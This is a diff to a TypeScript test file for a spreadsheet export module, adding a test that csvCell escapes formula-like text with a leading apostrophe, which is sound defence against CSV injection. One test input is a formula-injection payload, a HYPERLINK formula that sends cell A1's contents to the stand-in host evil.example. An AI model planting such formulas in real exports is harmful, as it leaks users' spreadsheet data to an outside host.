@@ -1,5 +1,5 @@
 import { expect } from 'chai';
-import { datedFilename, pythonUtcDateTime } from '../../server/admin/spreadsheet-export';
+import { csvCell, datedFilename, pythonUtcDateTime } from '../../server/admin/spreadsheet-export';
 import { keysetBatches } from '../../server/models/reports-batches';
 import { pageStatusString } from '../../server/models/reports-pages';
 
@@ -7,6 +7,17 @@ describe('spreadsheet export', () => {
   it("writes instants as Python's str() of a UTC datetime, as Wagtail's CSV does", () => {
     expect(pythonUtcDateTime(new Date('2026-11-24T21:09:25Z'))).to.equal('2026-11-24 21:09:25+00:00');
     expect(pythonUtcDateTime(new Date('2026-11-24T21:09:25.007Z'))).to.equal('2026-11-24 21:09:25.007000+00:00');
+  });
+
+  it("writes text a spreadsheet would run as a formula with a leading ', and numbers as they are", () => {
+    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+2', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];
+    for (const text of hostile) expect(csvCell(text), JSON.stringify(text)).to.equal(`'${text}`);
+    expect(csvCell(['=1', 'two'])).to.equal("'=1, two");
+    expect(csvCell('Great crab = good')).to.equal('Great crab = good');
+    expect(csvCell(' =1')).to.equal(' =1');
+    expect(csvCell(-5)).to.equal(-5);
+    expect(csvCell(false)).to.equal('False');
+    expect(csvCell(new Date('2026-11-24T21:09:25Z'))).to.equal('2026-11-24 21:09:25+00:00');
   });
 
   it("dates file names with the day where the user is, as Wagtail's reports name them", () => {
